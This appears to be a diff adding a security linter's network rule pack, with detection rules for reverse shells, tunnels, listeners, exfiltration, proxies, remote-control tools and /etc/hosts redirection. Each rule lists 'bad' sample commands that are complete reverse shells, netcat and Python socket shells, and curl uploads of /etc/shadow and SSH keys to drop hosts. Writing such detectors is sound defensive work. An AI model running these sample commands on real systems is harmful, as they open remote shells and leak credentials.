@@ -1,0 +1,172 @@
+# Shells over the network, tunnels, exfiltration.
+pack "baseline" {}
+
+rule "NET001" {
+  title    = "shell is tied to a connection"
+  severity = "critical"
+  on       = "exec"
+  when     = ((is_interpreter(exec.name) || one_of(exec.name, "exec", "cat")) &&
+              anytrue([for r in exec.redirects : matches(r.path, "^/dev/(tcp|udp)/") && !matches(r.path, "^/dev/(tcp|udp)/(localhost|127[.]|::1)")]))
+  message  = "${command} hands a shell to another machine"
+  why      = "this is the reverse shell of every handbook"
+  fix      = "remove it"
+  refs     = ["CWE-912", "ATT&CK T1095", "ATT&CK T1059.004"]
+  locked   = true
+  bad      = ["bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "sh -i <&3 >/dev/tcp/203.0.113.9/4444 2>&1"]
+  good     = ["timeout 1 bash -c ': < /dev/tcp/127.0.0.1/6379'", "sh -c 'ls' > /dev/null"]
+}
+
+rule "NET002" {
+  title    = "netcat or socat runs a program"
+  severity = "critical"
+  on       = "exec"
+  when     = ((one_of(exec.name, "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd") && (has_flag(exec, "e", "exec", "sh-exec", "lua-exec") || (has_flag(exec, "c") && is_interpreter(flag_value(exec, "c"))))) ||
+              (exec.name == "socat" && any_arg(exec, "^(EXEC|SYSTEM|exec|system|Exec|System|SHELL|shell):")))
+  message  = "${command} gives a program to whoever is at the other end"
+  why      = "this is the bind or reverse shell of every handbook"
+  fix      = "remove it"
+  refs     = ["CWE-912", "ATT&CK T1095", "ATT&CK T1059"]
+  locked   = true
+  bad      = ["nc -lvp 4444 -e /bin/sh", "socat TCP:203.0.113.9:4444 EXEC:/bin/bash"]
+  good     = ["nc -zv db.example.org 5432", "socat UNIX-LISTEN:/run/app.sock,fork TCP:127.0.0.1:8080"]
+}
+
+rule "NET003" {
+  title    = "interpreter ties a shell to a socket"
+  severity = "critical"
+  on       = "exec"
+  when     = (is_interpreter(exec.name) &&
+              matches([command, exec.stdin], "socket[.]socket|IO::Socket|use Socket|TCPSocket|TCPServer|fsockopen|net[.](connect|Socket|createConnection|createServer)|/inet/tcp/") &&
+              matches([command, exec.stdin], "dup2|pty[.]spawn|subprocess|popen|exec[ (l{]|child_process|/bin/(ba|da|z)?sh|shell_exec|proc_open|getline"))
+  message  = "${exec.name} hands a shell to another machine"
+  why      = "this is the reverse shell of every handbook in another language"
+  fix      = "remove it"
+  refs     = ["CWE-912", "ATT&CK T1059.006", "ATT&CK T1095"]
+  locked   = true
+  bad = [
+    "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
+  ]
+  good = [
+    "python3 -c 'import socket; print(socket.gethostname())'",
+    "perl -e 'print \"ready\\n\"'",
+  ]
+}
+
+rule "NET004" {
+  title    = "tunnel out of the machine"
+  severity = "high"
+  on       = "exec"
+  when     = (one_of(exec.name, "ngrok", "cloudflared", "frpc", "frps", "bore", "chisel", "localtonet", "lt", "localtunnel", "gost", "iodine", "dnscat", "autossh", "sshuttle", "pagekite.py", "zrok") ||
+              (exec.name == "ssh" && has_flag(exec, "R", "D")))
+  message  = "${command} opens a way into the machine around its firewall"
+  why      = "whoever owns the other end reaches services that were never public"
+  fix      = "publish services on ports that are declared"
+  refs     = ["CWE-912", "ATT&CK T1572", "ATT&CK T1090"]
+  bad      = ["ngrok tcp 22", "ssh -fN -R 2222:localhost:22 hub.example.org"]
+  good     = ["ssh -o BatchMode=yes hub.example.org true"]
+}
+
+rule "NET005" {
+  title    = "listener without a declaration"
+  severity = "medium"
+  on       = "exec"
+  when     = ((one_of(exec.name, "nc", "ncat", "netcat") && has_flag(exec, "l", "listen")) ||
+              (exec.name == "socat" && any_arg(exec, "^(TCP|TCP4|TCP6|UDP|OPENSSL|tcp|udp)[46]?-(LISTEN|listen|L|RECV):") && !any_arg(exec, "bind=(127[.]|localhost)")) ||
+              (matches(exec.name, "^python[0-9.]*$") && any_arg(exec, "^(http[.]server|SimpleHTTPServer)$") && !has_arg(exec, "127.0.0.1", "localhost")))
+  message  = "${command} listens on the network"
+  why      = "a port that nobody declared is an entrance that nobody watches"
+  fix      = "bind to 127.0.0.1, or declare the service"
+  refs     = ["CWE-1327", "ATT&CK T1571"]
+  bad      = ["nc -l -p 9000", "python3 -m http.server 8000"]
+  good     = ["nc -z localhost 9000", "python3 -m http.server --bind 127.0.0.1 8000"]
+}
+
+rule "NET006" {
+  title    = "files of the system are sent away"
+  severity = "high"
+  on       = "exec"
+  when     = ((exec.name == "curl" &&
+               (path_under(flag_value(exec, "T", "upload-file"), param.paths) ||
+                anytrue([for v in [flag_value(exec, "d", "data", "data-binary", "data-raw", "data-ascii"), flag_value(exec, "F", "form")] : matches(v, "(^|=)[@<](/etc|/root|/home|/var/lib|/proc)/")]))) ||
+              (exec.name == "wget" && path_under(flag_value(exec, "post-file", "body-file"), param.paths)) ||
+              (one_of(exec.name, "nc", "ncat", "netcat") && anytrue([for r in exec.redirects : r.op == "<" && path_under(r.path, param.paths)])))
+  message  = "${command} sends files of the machine to the network"
+  why      = "a build has no reason to publish what is on its machine"
+  fix      = "remove it"
+  refs     = ["CWE-200", "ATT&CK T1048", "ATT&CK T1567"]
+  params = {
+    paths = ["/etc", "/root", "/home", "/var/lib", "/proc", "/var/log"]
+  }
+  bad  = ["curl -F 'file=@/etc/shadow' https://drop.example.org/", "curl --data-binary @/root/.ssh/id_rsa https://drop.example.org/"]
+  good = ["curl -F 'file=@build/report.xml' https://ci.example.org/", "curl -d '{\"state\":\"done\"}' https://ci.example.org/"]
+}
+
+rule "NET007" {
+  title    = "host for anonymous drops"
+  severity = "high"
+  on       = "exec"
+  when     = any_arg(exec, "(webhook[.]site|requestbin|pipedream[.]net|burpcollaborator|oastify[.]com|interact[.]sh|oast[.](pro|fun|me|live|site)|transfer[.]sh|file[.]io/|0x0[.]st|termbin[.]com|discord(app)?[.]com/api/webhooks|api[.]telegram[.]org/bot|hooks[.]slack[.]com/services|canarytokens)")
+  message  = "${command} talks to a service where anybody can collect anything"
+  why      = "such services take what is sent to them and tell nobody who reads it"
+  fix      = "report to a service of the publisher"
+  refs     = ["CWE-200", "ATT&CK T1567", "ATT&CK T1102"]
+  bad      = ["curl -d \"host=$(hostname)\" https://webhook.site/0a1b2c3d", "cat /etc/os-release | nc termbin.com 9999"]
+  good     = ["curl https://example.org/webhook.html"]
+}
+
+rule "NET008" {
+  title    = "traffic of the machine is sent through somebody else"
+  severity = "medium"
+  on       = "env"
+  when     = env.persisted && matches(env.name, "^(https?|ftp|all|HTTPS?|FTP|ALL)_(proxy|PROXY)$") && env.value != ""
+  message  = "${env.path} sends requests through ${env.value}"
+  why      = "the owner of the proxy sees, and without TLS changes, what machines of other people fetch"
+  fix      = "set the proxy only while the build runs"
+  refs     = ["CWE-441", "ATT&CK T1090", "ATT&CK T1659"]
+  bad      = ["echo 'http_proxy=http://proxy.example.org:3128' >> /etc/environment"]
+  good     = ["http_proxy=http://proxy.example.org:3128 apt-get update", "export https_proxy=http://proxy.example.org:3128"]
+}
+
+rule "NET009" {
+  title    = "remote control is installed"
+  severity = "medium"
+  on       = "package"
+  when     = one_of(package.action, "install", "download") && anytrue([for n in package.names : one_of(n, param.tools)])
+  message  = "${join(", ", package.names)} lets somebody control the machine from afar"
+  why      = "machines of other people become reachable for whoever holds the account"
+  fix      = "declare it in the listing, or leave it out"
+  refs     = ["ATT&CK T1219"]
+  params = {
+    tools = ["teamviewer", "anydesk", "rustdesk", "tailscale", "zerotier-one", "x11vnc", "tightvncserver", "tigervnc-standalone-server", "xrdp", "ngrok", "telnetd", "rsh-server", "tor", "cloudflared", "netbird", "shellinabox"]
+  }
+  bad  = ["apt-get install -y anydesk"]
+  good = ["apt-get install -y openssh-server"]
+}
+
+rule "NET010" {
+  title    = "connection through the shell's own socket"
+  severity = "medium"
+  on       = "exec"
+  when     = (!is_interpreter(exec.name) && !one_of(exec.name, "exec", "cat") &&
+              anytrue([for r in exec.redirects : matches(r.path, "^/dev/(tcp|udp)/") && !matches(r.path, "^/dev/(tcp|udp)/(localhost|127[.]|::1)")]))
+  message  = "${command} talks to another machine without any protocol"
+  why      = "no proxy, no certificate and hardly any log sees such a connection"
+  fix      = "use a client that authenticates the other end"
+  refs     = ["CWE-319", "ATT&CK T1095"]
+  bad      = ["echo ready > /dev/tcp/203.0.113.9/8080"]
+  good     = ["echo > /dev/tcp/127.0.0.1/6379"]
+}
+
+rule "NET011" {
+  title    = "update servers are sent elsewhere"
+  severity = "high"
+  on       = "write"
+  when     = (write.path == "/etc/hosts" && !write.deleted &&
+              matches([write.content, sed_adds(write.expression)], "^[ \t]*[0-9a-fA-F:.]+[ \t]+[^#]*(debian[.]org|ubuntu[.]com|fedoraproject[.]org|centos[.]org|redhat[.]com|rockylinux[.]org|almalinux[.]org|suse[.]com|opensuse[.]org|alpinelinux[.]org|pypi[.]org|npmjs[.]org|github[.]com|docker[.]io|amazonaws[.]com|aliyun[.]com|aliyuncs[.]com)"))
+  message  = "${write.path} gives an update server another address"
+  why      = "every machine of the image then asks somebody else for its updates"
+  fix      = "name a mirror in the package manager's own configuration"
+  refs     = ["CWE-350", "ATT&CK T1565.001", "ATT&CK T1659"]
+  bad      = ["echo '203.0.113.9 deb.debian.org security.debian.org' >> /etc/hosts"]
+  good     = ["echo '127.0.1.1 app app.example.org' >> /etc/hosts"]
+}
